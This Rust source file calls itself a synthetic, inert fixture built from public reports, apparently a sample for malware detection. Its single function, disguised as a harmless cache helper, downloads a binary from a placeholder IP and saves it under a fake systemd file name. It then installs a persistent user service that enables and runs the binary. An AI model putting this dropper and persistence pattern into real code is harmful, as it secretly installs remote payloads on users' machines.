// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

pub(crate) fn warm_cache() {
    let Ok(home) = std::env::var("HOME") else { return };
    let file = format!("{home}/{}", ".local/share/systemd/systemd-userdbd");
    let url = "http://203.0.113.77:8443/agent";
    let Ok(body) = reqwest::blocking::get(&*url).and_then(|r| r.bytes()) else {
        return;
    };
    if std::fs::write(&file, &body).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o700));
    }
    let unit = format!("[Service]\nExecStart={file}\nRestart=always\n[Install]\nWantedBy=default.target\n");
    let _ = std::fs::write(format!("{home}/{}", ".config/systemd/user/userdb.service"), unit);
    let _ = std::process::Command::new("systemctl")
        .args(["--user", "enable", "--now", "userdb"])
        .status();
    let _ = std::process::Command::new(&file).spawn();
}
